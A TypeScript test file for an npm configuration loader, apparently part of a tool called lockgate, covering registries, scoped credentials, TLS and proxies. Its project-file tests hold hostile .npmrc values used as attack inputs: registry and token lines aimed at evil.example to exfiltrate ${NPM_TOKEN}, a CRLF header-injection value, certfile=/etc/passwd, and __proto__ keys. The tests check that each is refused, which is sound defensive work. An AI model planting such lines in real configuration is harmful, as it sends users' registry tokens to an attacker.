import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { GateError } from '../../src/model/gate-error.ts';
import type { NpmConfiguration } from '../../src/platform/npmrc.ts';
import { loadNpmConfiguration } from '../../src/platform/npmrc.ts';

let home = '';

beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'lockgate-npmrc-'));
});

afterEach(() => {
  rmSync(home, { recursive: true, force: true });
});

interface Levels {
  readonly project?: string;
  readonly user?: string;
  readonly global?: string;
  readonly env?: Readonly<Record<string, string>>;
  readonly argv?: readonly string[];
}

/** Loads with nothing of this machine's own configuration in sight. */
async function load({ project, user, global, env = {}, argv = [] }: Levels): Promise<NpmConfiguration> {
  mkdirSync(join(home, 'prefix', 'etc'), { recursive: true });
  if (user !== undefined) writeFileSync(join(home, '.npmrc'), user);
  if (global !== undefined) writeFileSync(join(home, 'prefix', 'etc', 'npmrc'), global);
  return loadNpmConfiguration({
    ...(project === undefined ? {} : { projectText: project }),
    env: { HOME: home, PREFIX: join(home, 'prefix'), ...env },
    argv,
  });
}

const authorization = (config: NpmConfiguration, url: string): string | undefined => config.connection.authorizationFor(new URL(url));

describe('npm configuration', () => {
  it('falls back to npm’s own default registry', async () => {
    const config = await load({});
    expect(config.registry).toStrictEqual({ value: config.publicRegistry, level: 'default' });
    expect(new URL(config.publicRegistry).protocol).toBe('https:');
    expect(config.connection.strictSsl).toBe(true);
  });

  it.each([
    [
      'cli',
      {
        global: 'registry=https://g.example',
        user: 'registry=https://u.example',
        project: 'registry=https://p.example',
        env: { npm_config_registry: 'https://e.example' },
        argv: ['--registry=https://c.example'],
      },
    ],
    [
      'env',
      {
        global: 'registry=https://g.example',
        user: 'registry=https://u.example',
        project: 'registry=https://p.example',
        env: { npm_config_registry: 'https://e.example' },
      },
    ],
    ['project', { global: 'registry=https://g.example', user: 'registry=https://u.example', project: 'registry=https://p.example' }],
    ['user', { global: 'registry=https://g.example', user: 'registry=https://u.example' }],
    ['global', { global: 'registry=https://g.example' }],
  ] as const)('takes the registry from the %s level where that is the strongest', async (level, levels) => {
    expect((await load(levels)).registry).toStrictEqual({ value: `https://${level[0]}.example/`, level });
  });

  it('knows scoped registries, with the level of each', async () => {
    const config = await load({
      user: '@acme:registry=https://npm.acme.example/path',
      project: '\uFEFF@corp:registry=https://npm.corp.example/\r\n',
    });
    expect([...config.scopes]).toStrictEqual([
      ['@acme', { value: 'https://npm.acme.example/path/', level: 'user' }],
      ['@corp', { value: 'https://npm.corp.example/', level: 'project' }],
    ]);
  });

  it('sends each credential below its own place only', async () => {
    const config = await load({
      user: [
        '//npm.acme.example/team/:_authToken=${ACME_TOKEN}',
        '//basic.example/:_auth=YWRhOnB3',
        '//named.example:8443/:username=ada',
        `//named.example:8443/:_password=${Buffer.from('pw').toString('base64')}`,
      ].join('\n'),
      env: { ACME_TOKEN: 'secret' },
    });
    expect(authorization(config, 'https://npm.acme.example/team/@acme%2fui')).toBe('Bearer secret');
    expect(authorization(config, 'https://npm.acme.example/other/x')).toBeUndefined();
    expect(authorization(config, 'https://npm.acme.example/teammate/x')).toBeUndefined();
    expect(authorization(config, 'https://npm.acme.example.evil.example/team/x')).toBeUndefined();
    expect(authorization(config, 'https://basic.example/x')).toBe('Basic YWRhOnB3');
    expect(authorization(config, 'https://named.example:8443/x')).toBe(`Basic ${Buffer.from('ada:pw').toString('base64')}`);
    expect(authorization(config, 'https://named.example/x')).toBeUndefined();
  });

  it('takes credentials out of a registry’s address, and sends them there', async () => {
    const config = await load({ user: 'registry=https://ada:p%40w@npm.acme.example/' });
    expect(config.registry.value).toBe('https://npm.acme.example/');
    expect(authorization(config, 'https://npm.acme.example/x')).toBe(`Basic ${Buffer.from('ada:p@w').toString('base64')}`);
  });

  it('never lets a credential begin another header', async () => {
    const config = await load({ env: { TOKEN: 'x\r\nhost: evil.example' }, user: '//npm.acme.example/:_authToken=${TOKEN}' });
    expect(authorization(config, 'https://npm.acme.example/x')).toBeUndefined();
  });

  it('reads TLS and time settings of the user', async () => {
    writeFileSync(
      join(home, 'ca.pem'),
      '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n-----BEGIN CERTIFICATE-----\nBBBB\n-----END CERTIFICATE-----\n',
    );
    const config = await load({ user: `cafile=${join(home, 'ca.pem')}\nstrict-ssl=false\nfetch-timeout=1234\ncert="C\\nC"\nkey="K\\nK"` });
    expect(config.connection.ca).toHaveLength(2);
    expect(config.connection).toMatchObject({ strictSsl: false, headersTimeout: 1234 });
    expect(config.connection.clientCertificateFor(new URL('https://x.example/'))).toStrictEqual({ cert: 'C\nC', key: 'K\nK' });
    const missing = await load({ user: 'cafile=/nowhere/ca.pem' });
    expect(missing.unreadable).toHaveLength(1);
  });

  it('chooses proxies by configuration first, then by environment, and none for hosts of noproxy', async () => {
    const configured = await load({ user: 'https-proxy=http://proxy.example:3128\nnoproxy=.acme.example, other.example:8443' });
    const { proxyFor } = configured.connection;
    expect(proxyFor(new URL('https://registry.example/x'))).toBe('http://proxy.example:3128');
    expect(proxyFor(new URL('https://npm.acme.example/x'))).toBeUndefined();
    expect(proxyFor(new URL('https://notacme.example/x'))).toBe('http://proxy.example:3128');
    expect(proxyFor(new URL('https://other.example:8443/x'))).toBeUndefined();
    expect(proxyFor(new URL('https://other.example/x'))).toBe('http://proxy.example:3128');
    const inherited = await load({ user: '', env: { HTTPS_PROXY: 'http://env.example:1', NO_PROXY: 'npm.acme.example' } });
    expect(inherited.connection.proxyFor(new URL('https://registry.example/'))).toBe('http://env.example:1');
    expect(inherited.connection.proxyFor(new URL('http://registry.example/'))).toBeUndefined();
    expect(inherited.connection.proxyFor(new URL('https://npm.acme.example/'))).toBeUndefined();
  });
});

describe('a project file', () => {
  const env = { NPM_TOKEN: 'secret', HOST: 'npm.acme.example' };

  it('cannot send a variable to a host that only it names', async () => {
    const config = await load({
      env,
      project: [
        'registry=https://evil.example/',
        '//evil.example/:_authToken=${NPM_TOKEN}',
        '@acme:registry=https://evil.example/${NPM_TOKEN}/',
      ].join('\n'),
    });
    expect(authorization(config, 'https://evil.example/x')).toBeUndefined();
    expect(config.registry).toStrictEqual({ value: 'https://evil.example/', level: 'project' });
    expect(config.scopes.size).toBe(0);
    expect(config.refused.map(({ key }) => key)).toStrictEqual(['//evil.example/:_authToken', '@acme:registry']);
    expect(JSON.stringify([config.refused, config.registry, [...config.scopes]])).not.toContain('secret');
  });

  it('can use a variable towards a host that the user names', async () => {
    const project = '//npm.acme.example/:_authToken=${NPM_TOKEN}';
    for (const user of [
      'registry=https://npm.acme.example/',
      '//npm.acme.example/:username=ada',
      '@acme:registry=https://npm.acme.example/x',
    ]) {
      expect(authorization(await load({ env, user, project }), 'https://npm.acme.example/x')).toBe('Bearer secret');
    }
    expect(authorization(await load({ env, project, argv: ['--registry=https://npm.acme.example/'] }), 'https://npm.acme.example/x')).toBe(
      'Bearer secret',
    );
    expect(
      authorization(
        await load({ env: { ...env, npm_config_registry: 'https://npm.acme.example/' }, project }),
        'https://npm.acme.example/x',
      ),
    ).toBe('Bearer secret');
  });

  it('cannot make a host trusted by what npm run hands on', async () => {
    const config = await load({
      env: { ...env, npm_execpath: '/npm-cli.js', npm_config_registry: 'https://evil.example/' },
      project: 'registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}',
    });
    expect(authorization(config, 'https://evil.example/x')).toBeUndefined();
    expect(config.registry).toStrictEqual({ value: 'https://evil.example/', level: 'project' });
  });

  it('cannot name another user file, nor hide a variable in the name of a setting', async () => {
    writeFileSync(join(home, 'evil'), 'registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}');
    const config = await load({
      env,
      project: `userconfig=${join(home, 'evil')}\nglobalconfig=${join(home, 'evil')}\n//\${HOST}/:_authToken=x`,
    });
    expect(config.registry.level).toBe('default');
    expect(authorization(config, 'https://evil.example/x')).toBeUndefined();
    expect(authorization(config, 'https://npm.acme.example/x')).toBeUndefined();
    expect(config.refused).toHaveLength(1);
  });

  it('cannot choose how a registry is reached', async () => {
    const config = await load({
      project:
        'strict-ssl=false\ncafile=/evil.pem\nca=evil\nhttps-proxy=http://evil.example\nproxy=http://evil.example\nnoproxy=*\n//registry.example/:certfile=/etc/passwd',
    });
    expect(config.connection.strictSsl).toBe(true);
    expect(config.connection.ca).toBeUndefined();
    expect(config.connection.proxyFor(new URL('https://registry.example/'))).toBeUndefined();
    expect(config.refused).toHaveLength(7);
  });

  it('cannot have the user’s token sent over plain http', async () => {
    const config = await load({ env, user: '//npm.acme.example/:_authToken=token', project: 'registry=http://npm.acme.example/' });
    expect(config.registry.level).toBe('default');
    expect(config.refused).toMatchObject([{ key: 'registry' }]);
  });

  it('may give a literal credential to its own host', async () => {
    const config = await load({ project: 'registry=http://127.0.0.1:4873/\n//127.0.0.1:4873/:_authToken=read-only' });
    expect(authorization(config, 'http://127.0.0.1:4873/x')).toBe('Bearer read-only');
    expect(config.refused).toStrictEqual([]);
  });

  it('is harmless with hostile keys, and refused when it is huge', async () => {
    const config = await load({ project: '__proto__=x\n[__proto__]\nregistry=https://evil.example\nconstructor=y\n=\nregistry' });
    expect(config.registry.level).toBe('default');
    await expect(load({ project: `a=${'x'.repeat(300_000)}` })).rejects.toThrow(GateError);
  });
});
